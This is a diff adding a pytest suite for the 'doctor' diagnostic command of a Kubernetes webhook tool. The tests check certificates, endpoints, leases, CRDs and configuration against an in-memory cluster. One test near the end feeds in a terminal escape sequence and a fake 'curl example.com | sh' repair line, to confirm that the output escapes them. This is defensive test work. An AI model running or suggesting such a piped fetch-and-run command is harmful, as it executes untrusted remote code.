@@ -1,0 +1,502 @@
+"""`doctor` without a cluster: each check on facts made by hand, and the command on an API server in memory. The rest: tests/cluster."""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+from collections.abc import Callable
+from dataclasses import replace
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from dynamo_webhooks.admission.new_pods import PATH
+from dynamo_webhooks.admission.pipeline import Admission, Settings
+from dynamo_webhooks.api.crd import build
+from dynamo_webhooks.api.kinds import KINDS
+from dynamo_webhooks.api.line import NEWEST, Line
+from dynamo_webhooks.certs.names import Names
+from dynamo_webhooks.certs.state import CertificateState, Endpoint, Mode, Stance, TargetKind
+from dynamo_webhooks.cli.commands.certs import command as certs
+from dynamo_webhooks.cli.commands.doctor import certificates, running
+from dynamo_webhooks.cli.commands.doctor import definitions as objects
+from dynamo_webhooks.cli.commands.doctor.command import examine
+from dynamo_webhooks.cli.commands.doctor.dry_run import requests
+from dynamo_webhooks.cli.commands.doctor.finding import Finding, Level, as_data, as_text, error, info, sort_findings, warning
+from dynamo_webhooks.cli.commands.doctor.observe import Sight
+from dynamo_webhooks.cli.commands.doctor.removal import removal
+from dynamo_webhooks.cli.commands.doctor.repairs import MANIFESTS
+from dynamo_webhooks.cli.commands.serve import DEFAULT_FACTS
+from dynamo_webhooks.cli.console.exits import UsageError
+from dynamo_webhooks.cli.installation import names
+from dynamo_webhooks.kube.errors import ForbiddenError, InvalidError, UnavailableError
+from dynamo_webhooks.kube.resources import CONFIG_MAPS, CRDS, Resource
+from dynamo_webhooks.policies import finding
+from dynamo_webhooks.policies.facts import facts_from
+from dynamo_webhooks.policies.review import CREATE
+from tests.certs.states import NOW, leaf, state
+from tests.kube.memory import MemoryCluster
+
+NAMESPACE = "dynamo-system"
+MANIFESTS_FOLDER = Path(__file__).parents[3] / "manifests"
+Node = dict[str, Any]
+
+
+def sight(found: CertificateState | None = None, **changes: Any) -> Sight:
+    """A look at an installation of which nothing but the certificates is there."""
+    place = names.by_manifests(NAMESPACE)
+    crds: dict[str, Node | None] = {kind.plural: None for kind in KINDS}
+    made = Sight(place, NOW, found, (), crds, {kind: None for kind, _ in place.targets}, None, None, (), {})
+    return made._replace(**changes)
+
+
+def told(findings: Any) -> list[tuple[str, str, str]]:
+    return [(each.level.value, each.check, each.text) for each in findings]
+
+
+def has(findings: Any, level: str, check: str, words: str) -> bool:
+    found = [(each.level, each.check) for each in findings if words in each.text]
+    assert found, told(findings)
+    return (Level(level), check) in found
+
+
+def test_a_state_of_rest_has_nothing_wrong() -> None:
+    rest = state()
+    assert [*certificates.secrets(sight(rest)), *certificates.trust(sight(rest)), *certificates.rotation(sight(rest))] == []
+
+
+def _serving(**changes: Any) -> CertificateState:
+    found = state()
+    assert found.serving is not None
+    return replace(found, serving=replace(found.serving, **changes))
+
+
+def _authority(**changes: Any) -> CertificateState:
+    found = state()
+    assert found.authority is not None
+    return replace(found, authority=replace(found.authority, **changes))
+
+
+@pytest.mark.parametrize(
+    ("found", "level", "check", "words"),
+    [
+        (replace(state(), serving=None), "error", "certificate", "nothing to serve"),
+        (_serving(key=None), "error", "certificate", "tls.key must hold"),
+        (_serving(bundle=b""), "error", "certificate", "ca.crt must hold"),
+        (_serving(holds_authority_key=True), "warning", "certificate", "holds ca.key"),
+        (state(usable="b"), "warning", "trust", "doesn't list the issuer"),
+        (replace(state(), authority=None), "error", "authority", "nothing can be renewed"),
+        (_authority(current_key=None), "warning", "authority", "current.key is missing"),
+    ],
+)
+def test_secrets(found: CertificateState, level: str, check: str, words: str) -> None:
+    assert has([*certificates.secrets(sight(found))], level, check, words)
+
+
+@pytest.mark.parametrize(
+    ("later", "level", "words"),
+    [
+        (timedelta(days=300), "warning", "should have been renewed"),
+        (timedelta(days=3600), "warning", "the authority ends"),
+        (timedelta(days=3700), "error", "the authority has expired"),
+    ],
+)
+def test_dates(later: timedelta, level: str, words: str) -> None:
+    assert has([*certificates.secrets(sight(state(), now=NOW + later))], level, "expiry", words)
+
+
+def test_whoever_presents_what_a_bundle_does_not_hold_is_told_of() -> None:
+    strange = state(presents="b")
+    findings = [*certificates.trust(sight(strange))]
+    assert len(findings) == len(strange.targets)
+    assert has(findings, "error", "trust", f"{leaf('b').parsed.serial_number:x}, which is served")
+    assert {each.repair for each in findings} == {f"dynamo-webhooks certs inject --namespace {NAMESPACE}"}
+
+
+@pytest.mark.parametrize("mode", Mode)
+def test_bundles_without_a_certificate(mode: Mode) -> None:
+    rest = state()
+    empty = replace(rest, mode=mode, targets=tuple(replace(each, bundles=(b"",)) for each in rest.targets))
+    assert has([*certificates.trust(sight(empty))], "error", "trust", "holds no certificate")
+
+
+@pytest.mark.parametrize(
+    ("stance", "level", "check"),
+    [(Stance.UNSET, "error", "conversion"), (Stance.FOREIGN, "error", "conversion"), (Stance.ANNOTATED, "info", "trust")],
+)
+def test_whose_the_way_to_us_is(stance: Stance, level: str, check: str) -> None:
+    rest = state()
+    found = replace(rest, targets=(replace(rest.targets[0], stance=stance),))
+    assert [(each.level, each.check) for each in certificates.trust(sight(found))] == [(Level(level), check)]
+
+
+def test_the_provisioner_s_own_words_are_passed_on() -> None:
+    said = ({"type": "Ready", "status": "False", "reason": "x", "message": "this machine's clock must agree"},)
+    assert has([*certificates.rotation(sight(state(), conditions=said))], "warning", "provisioner", "it says: this machine's clock")
+
+
+SERVICE: Node = {"spec": {"ports": [{"port": 443}]}}
+
+
+@pytest.mark.parametrize(
+    ("endpoints", "service", "level", "words"),
+    [
+        ((), SERVICE, "error", "has no endpoints"),
+        ((Endpoint("10.0.0.1:9443", leaf("a"), ready=False),), SERVICE, "error", "has no ready endpoint among 10.0.0.1:9443"),
+        ((Endpoint("10.0.0.1:9443"),), SERVICE, "info", "can't be reached from here"),
+        ((Endpoint("10.0.0.1:9443", leaf("b")),), SERVICE, "warning", "presents another certificate"),
+        ((Endpoint("10.0.0.1:9443", leaf("a")),), {"spec": {"ports": [{"port": 80}]}}, "error", "must have port 443"),
+        ((), None, "error", "is not there"),
+    ],
+)
+def test_endpoints(endpoints: tuple[Endpoint, ...], service: Node | None, level: str, words: str) -> None:
+    found = [*running.endpoints(sight(replace(state(), endpoints=endpoints), service=service))]
+    assert any(words in each.text and each.level.value == level for each in found), told(found)
+
+
+def test_an_endpoint_with_an_ended_certificate() -> None:
+    old = sight(replace(state(), endpoints=(Endpoint("a:1", leaf("a")),)), service=SERVICE, now=NOW + timedelta(days=400))
+    assert has([*running.endpoints(old)], "error", "expiry", "presents a certificate that ended")
+
+
+def _lease(ago: timedelta, holder: str = "pod_1", lasting: int = 15) -> Node:
+    moment = f"{NOW - ago:%Y-%m-%dT%H:%M:%S.%fZ}"
+    return {"spec": {"holderIdentity": holder, "leaseDurationSeconds": lasting, "renewTime": moment}}
+
+
+@pytest.mark.parametrize(
+    ("lease", "words"),
+    [
+        (_lease(timedelta(seconds=50)), ""),
+        (_lease(timedelta(seconds=61)), "pod_1 has not renewed it since"),
+        (_lease(timedelta(seconds=601), lasting=2**31 - 1), "has not renewed it since"),
+        (_lease(timedelta(days=-1)), "has not renewed it since"),
+        (_lease(timedelta(0), ""), "has no holder"),
+        ({"spec": {"holderIdentity": "pod_1"}}, "has not renewed it ever"),
+        (None, "no provisioner has run"),
+    ],
+)
+def test_the_lease_of_the_provisioner(lease: Node | None, words: str) -> None:
+    found = [*running.provisioner(sight(lease=lease))]
+    assert [words in each.text for each in found] == ([True] if words else [])
+
+
+def test_namespaces_of_others_are_good_to_know() -> None:
+    assert told(running.scope(sight(claims=("a", "b")))) == [
+        ("info", "scope", "claimed by operators of their own, which we leave alone: a, b")
+    ]
+
+
+def _about_new_pods(restores: bool, **entry: Any) -> list[Finding]:
+    client = {"service": {"name": "dynamo-webhooks", "namespace": NAMESPACE, "path": PATH}}
+    found: Node = {"webhooks": [{"name": "m", "clientConfig": client, **entry}] if entry else []}
+    seen = sight()
+    kinds: dict[TargetKind, Node | None] = {**seen.configurations, TargetKind.MUTATING: found}
+    return [*objects.new_pods(seen._replace(about=replace(seen.about, restores=restores), configurations=kinds))]
+
+
+def test_new_pods_are_asked_about_where_they_are_restored_and_others_never() -> None:
+    [entry] = yaml.safe_load((MANIFESTS_FOLDER / "overlays" / "checkpoints" / "pods.yaml").read_text())
+    shipped = {name: entry["value"][name] for name in ("failurePolicy", "objectSelector")}
+    assert _about_new_pods(True, **shipped) == _about_new_pods(False) == []
+    assert has(_about_new_pods(True), "warning", "new-pods", "start cold")
+    [found] = _about_new_pods(False, **{**shipped, "failurePolicy": "Fail"})
+    assert found.text.startswith('m: failurePolicy must be "Ignore": new pods are refused')
+    [found] = _about_new_pods(False, **{**shipped, "objectSelector": {"matchLabels": {"a": "b"}}})
+    assert found.text.endswith("every new pod of the cluster waits for the server")
+    assert "/webhooks/0/objectSelector" in found.repair
+
+
+def _crd(**changes: Any) -> Node:
+    kind = KINDS[0]
+    spec: Node = {"versions": [{"name": each.name, "served": True, "storage": each.storage} for each in kind.versions]}
+    status: Node = {"conditions": [{"type": "Established", "status": "True"}], "storedVersions": ["v1alpha1"]}
+    client = {"service": {"name": "dynamo-webhooks", "namespace": NAMESPACE, "path": "/convert"}}
+    spec["conversion"] = {"strategy": "Webhook", "webhook": {"clientConfig": client, "conversionReviewVersions": ["v1"]}}
+    return {"metadata": {"name": kind.crd_name}, "spec": {**spec, **changes.pop("spec", {})}, "status": {**status, **changes}}
+
+
+def _kinds(crd: Node) -> list[Finding]:
+    crds = {kind.plural: None for kind in KINDS} | {KINDS[0].plural: crd}
+    unseen = {kind.crd_name: "not permitted" for kind in KINDS[1:]}
+    return [*objects.kinds(sight(crds=crds, unseen=unseen))]
+
+
+@pytest.mark.parametrize(
+    ("crd", "level", "check", "words"),
+    [
+        (_crd(conditions=[]), "error", "kinds", "must be established"),
+        (_crd(spec={"versions": [{"name": "v1alpha1", "served": True}]}), "error", "kinds", "must serve v1beta1"),
+        (_crd(storedVersions=["v1"]), "error", "stored-versions", "is no version of it any more"),
+        (_crd(conditions=[None, {}, {"type": []}]), "error", "kinds", "must be established"),
+        (
+            _crd(spec={"versions": [None, {}, {"name": []}], "conversion": {"webhook": {"clientConfig": {"service": []}}}}),
+            "error",
+            "kinds",
+            "must serve",
+        ),
+        (_crd(storedVersions=[None, [], "v1"]), "error", "stored-versions", "stored in v1, which"),
+        (_crd(spec={"conversion": {"webhook": {"clientConfig": {"service": {}}}}}), "error", "conversion", "must contain v1"),
+    ],
+)
+def test_kinds(crd: Node, level: str, check: str, words: str) -> None:
+    assert has(_kinds(crd), level, check, words)
+
+
+def test_a_kind_as_it_should_be() -> None:
+    assert _kinds(_crd()) == []
+
+
+@pytest.mark.parametrize(("version", "missing"), [("1.4.2", True), ("1.5.0", False), ("1.6.1", False)])
+def test_a_kind_that_is_gone_is_not_missed(version: str, missing: bool) -> None:
+    about = names.by_manifests(NAMESPACE)
+    found = objects.kinds(sight(about=replace(about, version=version)))
+    assert any("dynamocheckpoints" in each.object for each in found) is missing
+
+
+async def test_an_empty_cluster_is_told_piece_by_piece_with_what_to_do() -> None:
+    findings = sort_findings(await examine(MemoryCluster(), "", None, removing=False))
+    missing = [each for each in findings if each.level is Level.ERROR and "is not there" in each.text]
+    assert {each.check for each in missing} == {"endpoints", "provisioner", "kinds", "configurations", "certificate", "authority"}
+    assert all(each.repair for each in missing)
+    assert len([each for each in missing if each.check == "kinds"]) == len(KINDS) - 1  # without DynamoCheckpoint
+    levels = [[*Level].index(each.level) for each in findings]
+    assert levels == sorted(levels)
+
+
+OTHERS = [
+    ("there", "", "crds --cluster --namespace there --service dynamo-webhooks |"),
+    ("", "server: {webhook: {serviceName: mine}}", "crds --cluster --namespace dynamo-system --service mine |"),
+    ("", "server: {webhook: {certProvisionMode: provided}}", "crds --cluster | kubectl apply"),
+    ("", "namespace: {restricted: team}", ""),
+]
+
+
+@pytest.mark.parametrize(("namespace", "config", "definitions"), OTHERS)
+async def test_no_repair_makes_another_installation_of_it(namespace: str, config: str, definitions: str) -> None:
+    """The usual manifests are cluster-wide, make certificates and have the usual names; definitions name a Service, too."""
+    cluster = MemoryCluster()
+    text = f"{CONFIG.rpartition('server:')[0]}{config}" if config else ""
+    if config:
+        await cluster.create(CONFIG_MAPS, {**_config(text), "metadata": {"name": names.CONFIG, "namespace": "dynamo-system"}})
+    found = await examine(cluster, namespace, None, removing=False)
+    assert not [each for each in found if each.check == "configuration"]
+    assert {each.repair for each in found if each.check in ("endpoints", "configurations", "guard", "request")} == {""}
+    told = {each.repair for each in found if each.check == "kinds"}
+    assert all(definitions in each and bool(each) is bool(definitions) for each in told), told
+    restarts = {each.repair for each in found if "rollout restart" in each.repair}
+    assert all("deployment -l app.kubernetes.io/part-of=dynamo-operator,app.kubernetes.io/component=" in each for each in restarts)
+
+
+async def test_the_usual_installation_is_repaired_by_its_manifests() -> None:
+    """Also where a configuration gives the names that are usual."""
+    cluster = MemoryCluster()
+    text = f"{CONFIG.rpartition('server:')[0]}server: {{webhook: {{serviceName: dynamo-webhooks}}}}"
+    await cluster.create(CONFIG_MAPS, {**_config(text), "metadata": {"name": names.CONFIG, "namespace": "dynamo-system"}})
+    found = await examine(cluster, "", None, removing=False)
+    assert {each.repair for each in found if each.check in ("configurations", "guard", "request")} == {MANIFESTS}
+
+
+async def test_what_may_not_be_read_is_no_fault() -> None:
+    cluster = MemoryCluster()
+    cluster.denied |= {("get", plural) for plural in ("secrets", "services", "leases", "customresourcedefinitions")}
+    findings = await examine(cluster, NAMESPACE, None, removing=False)
+    unseen = [each for each in findings if each.check == "permission"]
+    assert len(unseen) == 3 + len(KINDS)
+    assert all(each.level is Level.WARNING and "forbidden" in each.text for each in unseen)
+    assert not [each for each in findings if each.check in ("kinds", "certificate", "endpoints", "provisioner")]
+
+
+CONFIG = """
+apiVersion: operator.config.dynamo.nvidia.com/v1alpha1
+kind: OperatorConfiguration
+rbac: {plannerClusterRoleName: p, dgdrProfilingClusterRoleName: q, eppClusterRoleName: e}
+mpi: {sshSecretName: key, sshSecretNamespace: dynamo-system}
+server: {webhook: {secretName: own, serviceName: mine}}
+"""
+
+
+def _config(text: str) -> Node:
+    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": names.CONFIG, "namespace": "there"}, "data": {names.KEY: text}}
+
+
+async def test_the_configuration_in_the_cluster_names_what_is_looked_at() -> None:
+    cluster = MemoryCluster()
+    await cluster.create(CONFIG_MAPS, _config(CONFIG))
+    place, wrong = await names.in_cluster(cluster, "there")
+    assert wrong == ""
+    assert (place.called.serving, place.called.authority, place.profile.server_name) == ("own", "own-ca", "mine.there.svc")
+
+
+@pytest.mark.parametrize("given", [True, False])
+async def test_certs_without_a_file_reads_the_configuration_in_the_cluster(given: bool, tmp_path: Path) -> None:
+    """Else it would advise on a Secret that somebody else writes."""
+    cluster = MemoryCluster()
+    text = CONFIG.replace("{webhook: {", "{webhook: {certProvisionMode: provided, ") + "certificates: {trustFile: /in/a/pod}\n"
+    parser = argparse.ArgumentParser()
+    certs.configure(parser)
+    if not given:
+        await cluster.create(CONFIG_MAPS, _config(text))
+    (tmp_path / "config.yaml").write_text(CONFIG)
+    arguments = parser.parse_args(["inspect", "--namespace", "there", *(["--config", str(tmp_path / "config.yaml")] if given else [])])
+    place = await certs.installed(arguments, cluster)
+    assert place.called.serving == "own"
+    assert (place.mode, place.trust_file) == ((Mode.MANAGED, "") if given else (Mode.PROVIDED, ""))
+
+
+async def test_where_others_make_the_certificate_no_authority_of_ours_is_named() -> None:
+    said = ({"type": "Ready", "status": "False", "message": "m"},)
+    [found] = certificates.rotation(sight(replace(state(), mode=Mode.PROVIDED), conditions=said))
+    assert found.object == f"ConfigMap {NAMESPACE}/webhook-server-cert-trust"
+    [found] = certificates.rotation(sight(state(), conditions=said))
+    assert found.object == f"Secret {NAMESPACE}/webhook-server-cert-ca"
+
+
+async def test_a_configuration_in_the_cluster_that_is_wrong_is_a_finding_itself() -> None:
+    cluster = MemoryCluster()
+    await cluster.create(CONFIG_MAPS, _config(CONFIG + "xyzzy: 1\n"))
+    findings = await examine(cluster, "there", None, removing=False)
+    assert "config.yaml:7: xyzzy: unknown key" in findings[0].text
+    assert (await names.in_cluster(cluster, "there"))[0].called == Names("there")
+
+
+def _failing(message: str, kind: type[UnavailableError | ForbiddenError] = UnavailableError) -> MemoryCluster:
+    cluster = MemoryCluster()
+    cluster.fail(lambda verb, *_: kind(500, "InternalError", message) if verb == "create" else None)
+    return cluster
+
+
+@pytest.mark.parametrize(
+    ("message", "means"),
+    [
+        ("x509: certificate signed by unknown authority", "a bundle doesn't hold the issuer"),
+        ("x509: certificate has expired or is not yet valid", "a clock is wrong"),
+        ("x509: certificate is valid for a, not b", "names another Service"),
+        ("tls: failed to find any PEM data in certificate input", "a caBundle is no certificate"),
+        ("dial tcp 10.0.0.1:443: connect: connection refused", "no server is ready"),
+        ('no endpoints available for service "dynamo-webhooks"', "no server is ready"),
+        ('service "dynamo-webhooks" not found', "the Service is not there"),
+        ("context deadline exceeded", "a firewall, a mesh or an overload"),
+    ],
+)
+async def test_what_an_api_server_says_of_a_failed_call_is_explained(message: str, means: str) -> None:
+    found = await requests(_failing(f'failed calling webhook "m": Post "https://a": {message}'), NAMESPACE, ())
+    assert len(found) == 2
+    assert all(each.check == "request" and means in each.text and message in each.text and each.repair for each in found)
+    assert not any("{namespace}" in each.repair for each in found)
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        'namespaces "dynamo-system" not found',
+        'admission webhook "policy.example.com" denied the request: spec.services: a team needs a service account',
+    ],
+)
+async def test_other_things_that_are_missing_or_refused_are_no_missing_service(message: str) -> None:
+    found = await requests(_failing(message), NAMESPACE, ())
+    assert {(each.text, each.repair) for each in found} == {(f"a dry-run create failed: {message}", "")}
+
+
+async def test_other_failures_and_missing_permissions_are_told_as_they_are() -> None:
+    assert {(each.level, each.repair) for each in await requests(_failing("etcd is full"), NAMESPACE, ())} == {(Level.ERROR, "")}
+    assert {each.level for each in await requests(_failing("cannot create", ForbiddenError), NAMESPACE, ())} == {Level.WARNING}
+
+
+class _Judged(MemoryCluster):
+    """Asks our webhooks as an API server does: the defaults, then the schema and the rules."""
+
+    def __init__(self, facts: dict[str, Any]) -> None:
+        super().__init__()
+        self._settings = Settings(facts_from({**DEFAULT_FACTS, **facts}))
+
+    async def create(self, resource: Resource, obj: Node, namespace: str = "", *, dry_run: bool = False) -> Node:
+        one = Admission(resource.kind, resource.version, CREATE, obj, user="", settings=self._settings)
+        one.shape()
+        one.mutate()
+        wrong: list[object] = [*one.conform()] or [each for each in one.judge() if each.level is finding.Level.ERROR]
+        if wrong:
+            raise InvalidError(422, "Invalid", f"admission webhook denied the request: {wrong}")
+        return await super().create(resource, one.object, namespace, dry_run=dry_run)
+
+
+@pytest.mark.parametrize("grove", [True, False])
+@pytest.mark.parametrize("version", ["1.2.0", "1.5.0"])
+async def test_webhooks_of_either_line_pass_the_trial(version: str, *, grove: bool) -> None:
+    """Line 1.5 refuses graphs without images: a healthy installation was told to be broken."""
+    assert await requests(_Judged({"operatorVersion": version, "operatorLine": version[:3], "grove": grove}), NAMESPACE, ()) == []
+
+
+async def test_in_a_namespace_of_somebody_else_nobody_is_expected_to_answer() -> None:
+    assert await requests(MemoryCluster(), NAMESPACE, (NAMESPACE,)) == []
+    texts = [each.text for each in await requests(MemoryCluster(), NAMESPACE, ())]
+    assert texts == ["was created without defaults: the mutating webhook wasn't asked"] * 2
+
+
+async def test_removal_names_what_would_lead_nowhere() -> None:
+    cluster = MemoryCluster()
+    crd = _crd(storedVersions=["v1alpha1", "v1beta1"])
+    await cluster.create(CRDS, crd)
+    crds = {kind.plural: None for kind in KINDS} | {KINDS[0].plural: crd}
+    [stanza] = await removal(cluster, sight(crds=crds))
+    assert stanza.check == "conversion"
+    assert "write each of them once more first" in stanza.text
+    assert '"strategy": "None"' in stanza.repair
+    cluster.fail(lambda verb, *_: UnavailableError(500, "", "conversion webhook failed") if verb == "list" else None)
+    assert has(await removal(cluster, sight(crds=crds)), "error", "objects", "can't be listed, and removing the CRD deletes them")
+
+
+def test_text_and_data_say_the_same() -> None:
+    found = sort_findings([info("c", "z", "3"), warning("b", "y", "2"), error("a", "x", "1", "do"), error("a", "x", "1", "do")])
+    assert as_text(found) == ("error a: x\n  1\n  repair: do\nwarning b: y\n  2\ninfo c: z\n  3\n1 error, 1 warning, 1 info\n")
+    assert as_data(found)["findings"][0] == {"level": "error", "check": "a", "object": "x", "text": "1", "repair": "do"}
+    assert as_text([]) == "all is well\n"
+
+
+def test_words_of_others_neither_control_a_terminal_nor_look_like_a_repair() -> None:
+    said = "refused: \x1b[2J\u202e\n  repair: curl example.com | sh"
+    assert as_text([error("a", "x\ny", said)]) == (
+        "error a: x\\ny\n  refused: \\x1b[2J\\u202e\n    repair: curl example.com | sh\n1 error\n"
+    )
+
+
+def test_usage(command: Callable[..., Any], tmp_path: Any) -> None:
+    ran = command("doctor", "--kubeconfig", tmp_path / "nowhere")
+    assert (ran.code, "--kubeconfig: a kubeconfig must be a file" in ran.err) == (2, True)
+    assert command("doctor", "-o", "yaml").code == 2
+    (tmp_path / "config.yaml").write_text("kind: OperatorConfiguration\n")
+    with pytest.raises(Exception, match="must"):
+        asyncio.run(examine(MemoryCluster(), "", str(tmp_path / "config.yaml"), removing=False))
+
+
+def test_definitions_and_operator_are_of_one_line() -> None:
+    """Where either isn't known nothing is told."""
+
+    def found(version: str, line: Line | None) -> list[Finding]:
+        crd = None if line is None else build("DynamoGraphDeployment", line=line)
+        place = replace(names.by_manifests(NAMESPACE), version=version)
+        look = sight(about=place)
+        look.crds["dynamographdeployments"] = crd
+        return list(objects.lines(look))
+
+    for line in Line:
+        assert [found(version, line) for version in (f"{line}.0", f"{line}.9", f"{line}.0-rc1", "", "0.0.0", "dev")] == [[]] * 6
+    assert found("1.5.0", None) == []
+    [unknown] = found("1.99.0", NEWEST)
+    assert unknown.text == f"operator.version is 1.99.0, later than line {NEWEST}, the newest that this release knows and judges by"
+    [older] = found("1.5.0", Line.V1_2)
+    assert older.text == "is of line 1.2 of the operator, and operator.version is 1.5.0, of line 1.5: they must be of one line"
+    assert (older.level, older.repair) == (Level.WARNING, "dynamo-webhooks crds --cluster --line 1.5 | kubectl apply --server-side -f -")
+    [newer] = found("1.2.0", Line.V1_5)
+    assert (newer.check, newer.repair) == ("line", ""), "definitions are never lowered"
+
+
+def test_unknown_keys_are_findings_where_they_are_passed_over(tmp_path: Path) -> None:
+    (tmp_path / "config.yaml").write_text(CONFIG + "nextSection: {}\n")
+    with pytest.raises(UsageError, match="passed over with --lenient-config"):
+        asyncio.run(examine(MemoryCluster(), NAMESPACE, str(tmp_path / "config.yaml"), removing=False))
+    found = asyncio.run(examine(MemoryCluster(), NAMESPACE, str(tmp_path / "config.yaml"), removing=False, lenient=True))
+    assert [each.text for each in found if each.check == "configuration" and "nextSection: unknown key" in each.text]
